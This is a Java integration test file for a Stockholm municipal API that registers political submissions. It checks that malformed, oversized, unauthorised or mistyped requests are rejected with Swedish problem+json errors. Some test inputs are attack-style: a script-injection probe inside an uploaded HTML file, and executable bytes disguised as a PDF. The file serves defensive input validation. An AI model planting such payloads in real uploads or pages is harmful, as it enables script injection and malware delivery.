package se.stockholm.ks.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import java.util.function.Supplier;
import java.util.stream.Stream;

import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import se.stockholm.ks.diarium.Arendestatus;
import se.stockholm.ks.diarium.Diarienummer;
import se.stockholm.ks.diarium.Diarium;
import se.stockholm.ks.diarium.Innehallskontroll;
import se.stockholm.ks.diarium.Nummerserie;
import se.stockholm.ks.skrivelse.Skrivelseinlamning;
import se.stockholm.ks.support.Api;
import se.stockholm.ks.support.Api.Multipart;
import se.stockholm.ks.support.Databasrader;
import se.stockholm.ks.support.IntegrationTest;

/**
 * {@code /api/v1} over real HTTP: a table of bad requests, each answered with its documented 4xx
 * as {@code application/problem+json} with a Swedish detail and the field at fault, leaving
 * nothing in the database; what must be accepted (Swedish letters, HTML as text, every ISO 8601
 * form, the limits themselves); Idempotency-Key, also under concurrency; withdrawal; rights; and
 * the engine REST start with the same rules.
 */
@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SkrivelseApiIT {

  static final String INTEGRATION = "integration";
  static final String SKRIVELSER = "/api/v1/skrivelser";
  static final String ENGINE_START = "/engine-rest/process-definition/key/skrivelse/start";
  static final ZoneId STOCKHOLM = ZoneId.of("Europe/Stockholm");
  static final ObjectMapper JSON = new ObjectMapper();

  /** A PDF small enough to read, complete enough for Tika. */
  static final byte[] PDF = "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
  static final String PDF_BASE64 = java.util.Base64.getEncoder().encodeToString(PDF);
  /** The start of a Linux executable. */
  static final byte[] ELF = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0, 1, 0, 0, 0};

  @LocalServerPort
  int port;
  @Autowired
  JdbcTemplate jdbc;
  @Autowired
  Diarium diarium;
  @Autowired
  Nummerserie nummerserie;
  @Autowired
  javax.sql.DataSource dataSource;
  @Autowired
  RuntimeService runtimeService;
  @Autowired
  TaskService taskService;
  @Autowired
  org.camunda.bpm.engine.ManagementService managementService;
  @Autowired
  HistoryService historyService;

  Api api;
  /** URL forms of ärenden in each state. */
  String oppet;
  String beslutat;
  String avslutat;
  String aterkallat;

  @BeforeAll
  void arendenIVarjeSkede() {
    api = new Api(port);
    oppet = registrera(giltigSkrivelse().toString());
    // the year 2026 (today) as well, so that both series exist before the bad requests
    registrera(skrivelse(n -> n.remove("inkom")));
    beslutat = registrera(giltigSkrivelse().toString());
    diarium.andraStatus(Diarienummer.parse(beslutat), Arendestatus.BESLUTAT);
    avslutat = registrera(giltigSkrivelse().toString());
    diarium.andraStatus(Diarienummer.parse(avslutat), Arendestatus.AVSLUTAT);
    aterkallat = registrera(giltigSkrivelse().toString());
    assertThat(api.postJson(INTEGRATION, arende(aterkallat) + "/aterkallelse", "{}").status()).isEqualTo(200);
  }

  // --- the table of bad requests ------------------------------------------------------------------

  /**
   * A bad request.
   *
   * @param namn what is wrong
   * @param status the documented status
   * @param falt the field at fault in {@code fel[].falt}, or null when the request has none
   * @param detalj a part of the Swedish detail
   * @param begaran sends the request
   */
  record Fall(String namn, int status, String falt, String detalj, Supplier<Api.Svar> begaran) {
    @Override
    public String toString() {
      return namn;
    }
  }

  Stream<Fall> felaktigaBegaran() {
    String tioArSedan = Diarium.idag().minusYears(10).minusDays(2).toString();
    String imorgon = Diarium.nu().plusDays(1).withNano(0).toString();
    return Stream.of(
        // rubrik
        fall("rubrik saknas", 400, "rubrik", "Rubrik måste fyllas i", () -> skrivelseJson(n -> n.remove("rubrik"))),
        fall("rubrik tom", 400, "rubrik", "Rubrik måste fyllas i", () -> skrivelseJson(n -> n.put("rubrik", ""))),
        fall("rubrik bara blanksteg", 400, "rubrik", "Rubrik måste fyllas i", () -> skrivelseJson(n -> n.put("rubrik", " \t "))),
        fall("rubrik null", 400, "rubrik", "Rubrik måste fyllas i", () -> skrivelseJson(n -> n.putNull("rubrik"))),
        fall("rubrik 501 tecken", 400, "rubrik", "högst 500 tecken", () -> skrivelseJson(n -> n.put("rubrik", "å".repeat(501)))),
        fall("rubrik är ett tal", 400, "rubrik", "Fel typ", () -> skrivelseJson(n -> n.put("rubrik", 42))),
        fall("rubrik är ett sanningsvärde", 400, "rubrik", "Fel typ", () -> skrivelseJson(n -> n.put("rubrik", true))),
        fall("rubrik är ett objekt", 400, "rubrik", "Fel typ", () -> skrivelseJson(n -> n.putObject("rubrik").put("text", "x"))),
        fall("rubrik är en lista", 400, "rubrik", "Fel typ", () -> skrivelseJson(n -> n.putArray("rubrik").add("x"))),
        fall("rubrik med styrtecken (BEL)", 400, "rubrik", "styrtecken", () -> skrivelseJson(n -> n.put("rubrik", "Skrivelse\u0007"))),
        fall("rubrik med NUL-tecken", 400, "rubrik", "styrtecken", () -> skrivelseJson(n -> n.put("rubrik", "Skri\u0000velse"))),
        // avsändare
        fall("avsandare saknas", 400, "avsandare.namn", "Avsändarens namn måste fyllas i", () -> skrivelseJson(n -> n.remove("avsandare"))),
        fall("avsandare.namn tomt", 400, "avsandare.namn", "måste fyllas i", () -> skrivelseJson(n -> avs(n).put("namn", ""))),
        fall("avsandare.namn 201 tecken", 400, "avsandare.namn", "högst 200 tecken", () -> skrivelseJson(n -> avs(n).put("namn", "Ö".repeat(201)))),
        fall("avsandare.namn är ett tal", 400, "avsandare.namn", "Fel typ", () -> skrivelseJson(n -> avs(n).put("namn", 7))),
        fall("avsandare.namn med escape-tecken", 400, "avsandare.namn", "styrtecken", () -> skrivelseJson(n -> avs(n).put("namn", "Jan\u001b[31m"))),
        fall("avsandare är en text", 400, "avsandare", "Fel typ", () -> skrivelseJson(n -> n.put("avsandare", "Jan Jönsson"))),
        fall("avsandare är en lista", 400, "avsandare", "Fel typ", () -> skrivelseJson(n -> n.putArray("avsandare").add("Jan"))),
        fall("okänt parti", 400, "avsandare.parti", "Okänt parti 'PP'", () -> skrivelseJson(n -> avs(n).put("parti", "PP"))),
        fall("parti är ett tal", 400, "avsandare.parti", "Fel typ", () -> skrivelseJson(n -> avs(n).put("parti", 1))),
        fall("okänd roll", 400, "avsandare.roll", "Okänd roll 'kung'", () -> skrivelseJson(n -> avs(n).put("roll", "kung"))),
        // inkom
        fall("inkom inte ISO 8601", 400, "inkom", "ISO 8601", () -> skrivelseJson(n -> n.put("inkom", "26/11/2025"))),
        fall("inkom 2025-02-30", 400, "inkom", "ISO 8601", () -> skrivelseJson(n -> n.put("inkom", "2025-02-30"))),
        fall("inkom månad 13", 400, "inkom", "ISO 8601", () -> skrivelseJson(n -> n.put("inkom", "2025-13-01T10:00"))),
        fall("inkom med ogiltig tidszon", 400, "inkom", "ISO 8601", () -> skrivelseJson(n -> n.put("inkom", "2025-11-26T10:00+25:00"))),
        fall("inkom i framtiden", 400, "inkom", "i framtiden", () -> skrivelseJson(n -> n.put("inkom", imorgon))),
        fall("inkom mer än tio år bakåt", 400, "inkom", "mer än tio år bakåt", () -> skrivelseJson(n -> n.put("inkom", tioArSedan))),
        fall("inkom är ett tal", 400, "inkom", "Fel typ", () -> skrivelseJson(n -> n.put("inkom", 20251126))),
        // frågor
        fall("31 frågor", 400, "fragor", "Högst 30 frågor", () -> skrivelseJson(n -> fragor(n, 31, 10))),
        fall("en fråga med 2001 tecken", 400, "fragor", "högst 2000 tecken", () -> skrivelseJson(n -> fragor(n, 1, 2001))),
        fall("fragor är en text", 400, "fragor", "Fel typ", () -> skrivelseJson(n -> n.put("fragor", "Vad kostar resan?"))),
        fall("fragor innehåller ett tal", 400, "fragor[0]", "Fel typ", () -> skrivelseJson(n -> n.putArray("fragor").add(1))),
        fall("fragor innehåller ett objekt", 400, "fragor[0]", "Fel typ", () -> skrivelseJson(n -> n.putArray("fragor").addObject())),
        fall("fragor innehåller null", 400, "fragor[0]", "null", () -> skrivelseJson(n -> n.putArray("fragor").addNull())),
        fall("fragor innehåller null efter en fråga", 400, "fragor[1]", "null", () -> skrivelseJson(n -> n.putArray("fragor").add("Vad?").addNull())),
        // text
        fall("text 1 000 001 tecken", 400, "text", "högst 1000000 tecken", () -> skrivelseJson(n -> n.put("text", "ä".repeat(1_000_001)))),
        fall("text är ett sanningsvärde", 400, "text", "Fel typ", () -> skrivelseJson(n -> n.put("text", false))),
        fall("text med styrtecken", 400, "text", "styrtecken", () -> skrivelseJson(n -> n.put("text", "Text\u0001"))),
        fall("varken text, frågor eller fil", 400, "text", "Skriv in skrivelsens text", () -> skrivelseJson(n -> {
          n.remove("text");
          n.remove("fragor");
        })),
        fall("text bara blanksteg och inga frågor", 400, "text", "Skriv in skrivelsens text", () -> skrivelseJson(n -> {
          n.put("text", "   \n ");
          n.putArray("fragor");
        })),
        // the body as a whole
        fall("okänt fält", 400, "hemlig", "Okänt fält 'hemlig'", () -> skrivelseJson(n -> n.put("hemlig", 1))),
        fall("okänt fält i avsandare", 400, "avsandare.epost", "Okänt fält 'epost'", () -> skrivelseJson(n -> avs(n).put("epost", "a@b.se"))),
        fall("trasig JSON", 400, null, "inte giltig JSON", () -> skrivelseRa("application/json", "{\"rubrik\": ")),
        fall("JSON med avslutande skräp", 400, null, "inte giltig JSON", () -> skrivelseRa("application/json", giltigSkrivelse() + "}")),
        fall("tom kropp", 400, null, "saknar innehåll", () -> skrivelseRa("application/json", "")),
        fall("JSON null", 400, null, "saknar innehåll", () -> skrivelseRa("application/json", "null")),
        fall("JSON-lista i stället för objekt", 400, null, "ett JSON-objekt", () -> skrivelseRa("application/json", "[]")),
        fall("JSON-text i stället för objekt", 400, null, "ett JSON-objekt", () -> skrivelseRa("application/json", "\"skrivelse\"")),
        fall("Content-Type text/plain", 415, null, "application/json", () -> skrivelseRa("text/plain", giltigSkrivelse().toString())),
        fall("Content-Type application/xml", 415, null, "application/json", () -> skrivelseRa("application/xml", "<skrivelse/>")),
        fall("ingen Content-Type", 415, null, "application/json", () -> skrivelseRa(null, giltigSkrivelse().toString())),
        fall("JSON-kropp över " + BegaransStorlek.MAX_JSON_MB + " MB", 413, null, "för stor", () -> skrivelseRa("application/json",
            "{\"rubrik\":\"Stor\",\"avsandare\":{\"namn\":\"A\"},\"text\":\"" + "x".repeat((BegaransStorlek.MAX_JSON_MB + 1) * 1024 * 1024) + "\"}")),
        fall("JSON-kropp över 10 MB utan Content-Length", 413, null, "för stor", () -> api.postChunked(INTEGRATION,
            SKRIVELSER, "application/json", ("{\"rubrik\":\"Stor\",\"avsandare\":{\"namn\":\"A\"},\"text\":\""
                + "x".repeat((BegaransStorlek.MAX_JSON_MB + 1) * 1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8))),
        fall("Idempotency-Key 201 tecken", 400, "Idempotency-Key", "1–200 tecken", () -> api.postJson(INTEGRATION,
            SKRIVELSER, giltigSkrivelse().toString(), "Idempotency-Key", "k".repeat(201))),
        // multipart
        fall("multipart utan delen skrivelse", 400, null, "delen 'skrivelse'", () -> multipart(new Multipart()
            .del("fil", "skrivelse.pdf", "application/pdf", PDF))),
        fall("multipart med trasig JSON", 400, null, "inte giltig JSON", () -> multipart(new Multipart()
            .json("skrivelse", "{\"rubrik\":"))),
        fall("multipart: skrivelsen utan Content-Type", 415, null, "application/json", () -> multipart(new Multipart()
            .del("skrivelse", null, null, giltigSkrivelse().toString().getBytes(StandardCharsets.UTF_8)))),
        fall("multipart utan rubrik", 400, "rubrik", "Rubrik måste fyllas i", () -> multipart(new Multipart()
            .json("skrivelse", skrivelse(n -> n.remove("rubrik"))).del("fil", "s.pdf", "application/pdf", PDF))),
        fall("multipart med okänt fält", 400, "bilaga", "Okänt fält 'bilaga'", () -> multipart(new Multipart()
            .json("skrivelse", skrivelse(n -> n.put("bilaga", "x"))))),
        fall("multipart med tom fil", 400, "fil", "är tom (0 byte)", () -> multipart(new Multipart()
            .json("skrivelse", giltigSkrivelse().toString()).del("fil", "tom.pdf", "application/pdf", new byte[0]))),
        fall("multipart med fil över 25 MB", 413, null, "högst 25 MB", () -> multipart(new Multipart()
            .json("skrivelse", giltigSkrivelse().toString())
            .del("fil", "stor.pdf", "application/pdf", pdfAvStorlek(25 * 1024 * 1024 + 1)))),
        fall("multipart med körbar fil (.exe)", 400, "fil", "application/x-executable", () -> multipart(new Multipart()
            .json("skrivelse", giltigSkrivelse().toString()).del("fil", "skrivelse.exe", "application/octet-stream", ELF))),
        fall("multipart med ELF som heter .pdf", 400, "fil", "som inte tas emot", () -> multipart(new Multipart()
            .json("skrivelse", giltigSkrivelse().toString()).del("fil", "skrivelse.pdf", "application/pdf", ELF))),
        fall("multipart med filnamn över 255 tecken", 400, "fil", "högst 255 tecken", () -> multipart(new Multipart()
            .json("skrivelse", giltigSkrivelse().toString()).del("fil", "a".repeat(296) + ".pdf", "application/pdf", PDF))),
        fall("multipart med HTML-fil", 400, "fil", "text/html", () -> multipart(new Multipart()
            .json("skrivelse", giltigSkrivelse().toString()).del("fil", "skrivelse.html", "text/html",
                "<html><body><script>alert(1)</script></body></html>".getBytes(StandardCharsets.UTF_8)))),
        fall("multipart utan boundary", 400, null, "multipart", () -> skrivelseRa("multipart/form-data", "skrivelse")),
        // multipart at /med-fil: the same rules as at the address of before
        fall("med-fil: skrivelsen utan Content-Type", 415, null, "application/json", () -> medFil(new Multipart()
            .del("skrivelse", null, null, giltigSkrivelse().toString().getBytes(StandardCharsets.UTF_8)))),
        fall("med-fil: skrivelsen som text/plain i ISO-8859-1", 415, null, "application/json", () -> medFil(new Multipart()
            .del("skrivelse", null, "text/plain; charset=ISO-8859-1", giltigSkrivelse().toString().getBytes(StandardCharsets.ISO_8859_1)))),
        fall("med-fil: fil i JSON-delen", 400, "fil", "Okänt fält 'fil'", () -> medFil(new Multipart()
            .json("skrivelse", skrivelse(n -> n.putObject("fil").put("filnamn", "s.pdf").put("innehall", PDF_BASE64))))),
        fall("med-fil utan rubrik", 400, "rubrik", "Rubrik måste fyllas i", () -> medFil(new Multipart()
            .json("skrivelse", skrivelse(n -> n.remove("rubrik"))).del("fil", "s.pdf", "application/pdf", PDF))),
        fall("med-fil med körbar fil", 400, "fil", "application/x-executable", () -> medFil(new Multipart()
            .json("skrivelse", giltigSkrivelse().toString()).del("fil", "skrivelse.exe", "application/octet-stream", ELF))),
        // a file in JSON (fil.filnamn, fil.innehall in base64)
        fall("fil i JSON utan filnamn", 400, "fil.filnamn", "fil.filnamn", () -> skrivelseJson(n -> n.putObject("fil")
            .put("innehall", PDF_BASE64))),
        fall("fil i JSON utan innehåll", 400, "fil.innehall", "base64", () -> skrivelseJson(n -> n.putObject("fil")
            .put("filnamn", "s.pdf"))),
        fall("fil i JSON som inte är base64", 400, "fil.innehall", "base64", () -> skrivelseJson(n -> n.putObject("fil")
            .put("filnamn", "s.pdf").put("innehall", "inte base64!"))),
        fall("fil i JSON med innehåll som tal", 400, "fil.innehall", "Fel typ", () -> skrivelseJson(n -> n.putObject("fil")
            .put("filnamn", "s.pdf").put("innehall", 42))),
        fall("fil i JSON som text", 400, "fil", "Fel typ", () -> skrivelseJson(n -> n.put("fil", PDF_BASE64))),
        fall("fil i JSON med okänt fält", 400, "fil.typ", "Okänt fält 'typ'", () -> skrivelseJson(n -> n.putObject("fil")
            .put("filnamn", "s.pdf").put("innehall", PDF_BASE64).put("typ", "application/pdf"))),
        fall("tom fil i JSON", 400, "fil", "är tom (0 byte)", () -> skrivelseJson(n -> n.putObject("fil")
            .put("filnamn", "tom.pdf").put("innehall", ""))),
        fall("körbar fil i JSON som heter .pdf", 400, "fil", "som inte tas emot", () -> skrivelseJson(n -> n.putObject("fil")
            .put("filnamn", "skrivelse.pdf").put("innehall", java.util.Base64.getEncoder().encodeToString(ELF)))),
        fall("filnamn i JSON över 255 tecken", 400, "fil", "högst 255 tecken", () -> skrivelseJson(n -> n.putObject("fil")
            .put("filnamn", "å".repeat(296) + ".pdf").put("innehall", PDF_BASE64))),
        fall("fil i JSON över 25 MB", 400, "fil", "största tillåtna storlek är 25,0 MB", () -> skrivelseJson(n -> n.putObject("fil")
            .put("filnamn", "stor.pdf").put("innehall", java.util.Base64.getEncoder().encodeToString(pdfAvStorlek(25 * 1024 * 1024 + 1))))),
        // ärenden
        fall("okänt diarienummer", 404, null, "KS 2025/999999", () -> api.get(INTEGRATION, "/api/v1/arenden/KS-2025-999999")),
        fall("felformat diarienummer", 404, null, "Ogiltigt diarienummer", () -> api.get(INTEGRATION, "/api/v1/arenden/inte-ett-nummer")),
        fall("okänt diarienummer, kodat", 404, null, "KS 2025/999999", () -> api.get(INTEGRATION, "/api/v1/arenden/KS%202025%2F999999")),
        fall("dokumentnummer i stället för diarienummer", 404, null, "Ogiltigt diarienummer", () -> api.get(INTEGRATION,
            "/api/v1/arenden/KS-2025-1513-1")),
        fall("handlingar i okänt ärende", 404, null, "finns", () -> api.get(INTEGRATION, "/api/v1/arenden/KS-2025-999999/handlingar")),
        fall("okänd handling", 404, null, "-999 finns inte", () -> api.get(INTEGRATION, arende(oppet) + "/handlingar/999")),
        fall("handlingsnummer som inte är ett tal", 400, "nummer", "heltal", () -> api.get(INTEGRATION, arende(oppet) + "/handlingar/ett")),
        fall("innehåll i okänd handling", 404, null, "-999 finns inte", () -> api.get(INTEGRATION, arende(oppet) + "/handlingar/999/innehall")),
        fall("återkalla okänt ärende", 404, null, "finns", () -> api.postJson(INTEGRATION, "/api/v1/arenden/KS-2025-999999/aterkallelse", "{}")),
        fall("återkalla beslutat ärende", 409, null, "beslutat", () -> api.postJson(INTEGRATION, arende(beslutat) + "/aterkallelse", "{}")),
        fall("återkalla avslutat ärende", 409, null, "avslutat", () -> api.postJson(INTEGRATION, arende(avslutat) + "/aterkallelse", "{}")),
        fall("återkalla återkallat ärende", 409, null, "återkallat", () -> api.postJson(INTEGRATION, arende(aterkallat) + "/aterkallelse", "{}")),
        fall("återkallelse med motivering 4001 tecken", 400, "motivering", "högst 4000 tecken", () -> api.postJson(INTEGRATION,
            arende(oppet) + "/aterkallelse", "{\"motivering\":\"" + "m".repeat(4001) + "\"}")),
        fall("återkallelse med motivering som tal", 400, "motivering", "Fel typ", () -> api.postJson(INTEGRATION,
            arende(oppet) + "/aterkallelse", "{\"motivering\":5}")),
        fall("återkallelse med okänt fält", 400, "orsak", "Okänt fält 'orsak'", () -> api.postJson(INTEGRATION,
            arende(oppet) + "/aterkallelse", "{\"orsak\":\"x\"}")),
        fall("handling till avslutat ärende", 409, null, "avslutat", () -> handling(avslutat, "{\"rubrik\":\"Komplettering\"}", "k.pdf", PDF)),
        fall("handling till okänt ärende", 404, null, "finns", () -> handling("KS-2025-999999", "{\"rubrik\":\"Komplettering\"}", "k.pdf", PDF)),
        fall("handling utan fil", 400, null, "delen 'fil'", () -> api.postMultipart(INTEGRATION, arende(oppet) + "/handlingar",
            new Multipart().json("handling", "{\"rubrik\":\"Komplettering\"}"))),
        fall("handling utan rubrik", 400, "rubrik", "rubrik", () -> handling(oppet, "{\"avsandare\":\"Jan\"}", "k.pdf", PDF)),
        fall("handling med ogiltigt datum", 400, "datum", "ÅÅÅÅ-MM-DD", () -> handling(oppet, "{\"rubrik\":\"K\",\"datum\":\"2025-02-30\"}", "k.pdf", PDF)),
        fall("handling med tom fil", 400, "fil", "är tom (0 byte)", () -> handling(oppet, "{\"rubrik\":\"K\"}", "k.pdf", new byte[0])),
        fall("handling med-fil utan fil", 400, null, "delen 'fil'", () -> api.postMultipart(INTEGRATION,
            arende(oppet) + "/handlingar/med-fil", new Multipart().json("handling", "{\"rubrik\":\"Komplettering\"}"))),
        fall("handling med-fil till avslutat ärende", 409, null, "avslutat", () -> api.postMultipart(INTEGRATION,
            arende(avslutat) + "/handlingar/med-fil",
            new Multipart().json("handling", "{\"rubrik\":\"K\"}").del("fil", "k.pdf", "application/pdf", PDF))),
        fall("handling som JSON utan fil", 400, "fil", "fil.innehall", () -> handlingJson(oppet, "{\"rubrik\":\"K\"}")),
        fall("handling som JSON utan rubrik", 400, "rubrik", "rubrik", () -> handlingJson(oppet,
            "{\"fil\":{\"filnamn\":\"k.pdf\",\"innehall\":\"" + PDF_BASE64 + "\"}}")),
        fall("handling som JSON med ogiltig base64", 400, "fil.innehall", "base64", () -> handlingJson(oppet,
            "{\"rubrik\":\"K\",\"fil\":{\"filnamn\":\"k.pdf\",\"innehall\":\"%%%\"}}")),
        fall("handling som JSON med tom fil", 400, "fil", "är tom (0 byte)", () -> handlingJson(oppet,
            "{\"rubrik\":\"K\",\"fil\":{\"filnamn\":\"k.pdf\",\"innehall\":\"\"}}")),
        fall("handling som JSON till återkallat ärende", 409, null, "återkallat", () -> handlingJson(aterkallat,
            "{\"rubrik\":\"K\",\"fil\":{\"filnamn\":\"k.pdf\",\"innehall\":\"" + PDF_BASE64 + "\"}}")),
        fall("handling som JSON till okänt ärende", 404, null, "finns", () -> handlingJson("KS-2025-999999",
            "{\"rubrik\":\"K\",\"fil\":{\"filnamn\":\"k.pdf\",\"innehall\":\"" + PDF_BASE64 + "\"}}")),
        // rights and credentials
        fall("rotel1 registrerar en skrivelse", 403, null, "behörighet", () -> api.postJson("rotel1", SKRIVELSER, giltigSkrivelse().toString())),
        fall("rotel1 återkallar", 403, null, "rotel1 får inte återkalla", () -> api.postJson("rotel1", arende(oppet) + "/aterkallelse", "{}")),
        fall("rotel1 lägger till en handling", 403, null, "rotel1 får inte", () -> api.postMultipart("rotel1", arende(oppet) + "/handlingar",
            new Multipart().json("handling", "{\"rubrik\":\"K\"}").del("fil", "k.pdf", "application/pdf", PDF))),
        fall("rotel1 lägger till en handling som JSON", 403, null, "rotel1 får inte", () -> api.postJson("rotel1",
            arende(oppet) + "/handlingar", "{\"rubrik\":\"K\",\"fil\":{\"filnamn\":\"k.pdf\",\"innehall\":\""
                + PDF_BASE64 + "\"}}")),
        fall("rotel1 registrerar med fil (med-fil)", 403, null, "behörighet", () -> api.postMultipart("rotel1",
            SKRIVELSER + "/med-fil", new Multipart().json("skrivelse", giltigSkrivelse().toString()))),
        fall("demoklockan ställd av integrationen", 403, null, "administratörer", () -> api.send(INTEGRATION, "PUT",
            "/api/v1/demo/klocka", "application/json", "{\"tid\":\"2030-01-01T00:00:00Z\"}".getBytes(StandardCharsets.UTF_8))),
        fall("inga inloggningsuppgifter (POST)", 401, null, "Logga in", () -> api.postJson(null, SKRIVELSER, giltigSkrivelse().toString())),
        fall("inga inloggningsuppgifter (GET)", 401, null, "Logga in", () -> api.get(null, arende(oppet))),
        fall("fel lösenord", 401, null, "Logga in", () -> api.postJson("moderaterna:fel", SKRIVELSER, giltigSkrivelse().toString())),
        // addresses and methods
        fall("okänd adress", 404, null, "/api/v1/openapi", () -> api.get(INTEGRATION, "/api/v1/finns-inte")),
        fall("PUT på skrivelser", 405, null, "PUT", () -> api.send(INTEGRATION, "PUT", SKRIVELSER, "application/json",
            giltigSkrivelse().toString().getBytes(StandardCharsets.UTF_8))),
        fall("Accept: application/xml", 406, null, "application/json", () -> api.get(INTEGRATION, arende(oppet), "Accept", "application/xml")),
        // the engine's own REST start, with the same rules
        fall("motorns start: tom rubrik", 400, "rubrik", "Rubrik måste fyllas i", () -> motorstart(Map.of(
            "rubrik", variabel("", "String"), "avsandareNamn", variabel("Jan", "String"), "skrivelseText", variabel("T", "String")))),
        fall("motorns start: rubrik som Integer", 400, "rubrik", "String", () -> motorstart(Map.of(
            "rubrik", variabel(42, "Integer"), "avsandareNamn", variabel("Jan", "String"), "skrivelseText", variabel("T", "String")))),
        fall("motorns start: avsändare som Boolean", 400, "avsandareNamn", "String", () -> motorstart(Map.of(
            "rubrik", variabel("R", "String"), "avsandareNamn", variabel(true, null), "skrivelseText", variabel("T", "String")))),
        fall("motorns start: ogiltigt inkom", 400, "inkom", "ISO 8601", () -> motorstart(Map.of(
            "rubrik", variabel("R", "String"), "avsandareNamn", variabel("Jan", "String"), "skrivelseText", variabel("T", "String"),
            "inkom", variabel("2025-02-30", "String")))),
        fall("motorns start: okänt parti", 400, "avsandareParti", "Okänt parti", () -> motorstart(Map.of(
            "rubrik", variabel("R", "String"), "avsandareNamn", variabel("Jan", "String"), "skrivelseText", variabel("T", "String"),
            "avsandareParti", variabel("XX", "String")))),
        fall("motorns start: null bland frågorna", 400, "fragor", "text", () -> motorstart(Map.of(
            "rubrik", variabel("R", "String"), "avsandareNamn", variabel("Jan", "String"),
            "fragor", variabel("[\"Vad?\", null]", "Json")))),
        fall("motorns start: frågor som trasig Json", 400, "fragor", "fel format", () -> motorstart(Map.of(
            "rubrik", variabel("R", "String"), "avsandareNamn", variabel("Jan", "String"),
            "fragor", variabel("[\"Vad?\"", "Json")))),
        fall("motorns start: frågor som tal", 400, "fragor", "Json eller String", () -> motorstart(Map.of(
            "rubrik", variabel("R", "String"), "avsandareNamn", variabel("Jan", "String"), "skrivelseText", variabel("T", "String"),
            "fragor", variabel(3, "Integer")))),
        fall("motorns start: filnamn över 255 tecken", 400, "skrivelseFil", "högst 255 tecken", () -> motorstart(Map.of(
            "rubrik", variabel("R", "String"), "avsandareNamn", variabel("Jan", "String"),
            "skrivelseFil", JSON.createObjectNode().put("value", java.util.Base64.getEncoder().encodeToString(PDF))
                .put("type", "File")
                .set("valueInfo", JSON.createObjectNode().put("filename", "x".repeat(300) + ".pdf"))))),
        fall("motorns start: tom fil", 400, "skrivelseFil", "är tom (0 byte)", () -> motorstart(Map.of(
            "rubrik", variabel("R", "String"), "avsandareNamn", variabel("Jan", "String"),
            "skrivelseFil", JSON.createObjectNode().put("value", "").put("type", "File")
                .set("valueInfo", JSON.createObjectNode().put("filename", "tom.pdf"))))));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("felaktigaBegaran")
  void aBadRequestGetsItsDocumentedProblemAndLeavesNothingBehind(Fall fall) {
    Map<String, Object> fore = Databasrader.rakna(jdbc);

    Api.Svar svar = fall.begaran().get();

    assertThat(svar.status()).as("%s: %s", fall.namn(), svar).isEqualTo(fall.status());
    assertThat(svar.contentType()).as(svar.toString()).startsWith("application/problem+json");
    JsonNode problem = svar.json();
    assertThat(problem.path("status").asInt()).isEqualTo(fall.status());
    assertThat(problem.path("title").asText()).isNotBlank();
    String detalj = problem.path("detail").asText();
    assertSvenska(problem.path("title").asText());
    assertSvenska(detalj);
    assertThat(detalj).as(svar.toString()).containsIgnoringCase(fall.detalj());
    if (fall.falt() != null) {
      List<String> falt = new ArrayList<>();
      problem.path("fel").forEach(f -> falt.add(f.path("falt").asText()));
      assertThat(falt).as(svar.toString()).contains(fall.falt());
      problem.path("fel").forEach(f -> assertSvenska(f.path("meddelande").asText()));
    }
    if (fall.status() == 401) {
      assertThat(svar.header("WWW-Authenticate")).startsWith("Basic realm=");
    }
    assertThat(Databasrader.rakna(jdbc)).as("databasen efter '%s'", fall.namn()).isEqualTo(fore);
  }

  @Test
  void theTableHasAtLeastFortyCases() {
    assertThat(felaktigaBegaran().count()).isGreaterThanOrEqualTo(40);
  }

  // --- what must be accepted ---------------------------------------------------------------------

  static Stream<Arguments> giltigaInkom() {
    return Stream.of(
        Arguments.of("2025-11-26", OffsetDateTime.parse("2025-11-26T00:00+01:00")),
        Arguments.of("2025-11-26T09:30", OffsetDateTime.parse("2025-11-26T09:30+01:00")),
        Arguments.of("2025-11-26T09:30:15", OffsetDateTime.parse("2025-11-26T09:30:15+01:00")),
        Arguments.of("2025-06-26T09:30", OffsetDateTime.parse("2025-06-26T09:30+02:00")),
        Arguments.of("2025-11-26T09:30+01:00", OffsetDateTime.parse("2025-11-26T09:30+01:00")),
        Arguments.of("2025-11-26T08:30Z", OffsetDateTime.parse("2025-11-26T09:30+01:00")),
        Arguments.of("2025-11-26T09:30:00.250-05:00", OffsetDateTime.parse("2025-11-26T15:30:00.250+01:00")),
        Arguments.of("2025-11-26T09:30+01:00[Europe/Stockholm]", OffsetDateTime.parse("2025-11-26T09:30+01:00")),
        Arguments.of(" 2025-11-26 ", OffsetDateTime.parse("2025-11-26T00:00+01:00")));
  }

  @ParameterizedTest(name = "inkom \"{0}\"")
  @MethodSource("giltigaInkom")
  void aValidIsoDateWithOrWithoutOffsetIsAccepted(String inkom, OffsetDateTime tidpunkt) {
    String dnr = registrera(skrivelse(n -> n.put("inkom", inkom)));

    JsonNode arende = api.get(INTEGRATION, arende(dnr)).json();
    assertThat(OffsetDateTime.parse(arende.path("inkom").asText()).toInstant()).isEqualTo(tidpunkt.toInstant());
    assertThat(arende.path("handlingar").get(0).path("datum").asText())
        .isEqualTo(tidpunkt.atZoneSameInstant(STOCKHOLM).toLocalDate().toString());
  }

  @Test
  void withoutInkomTheSkrivelseIsReceivedNow() {
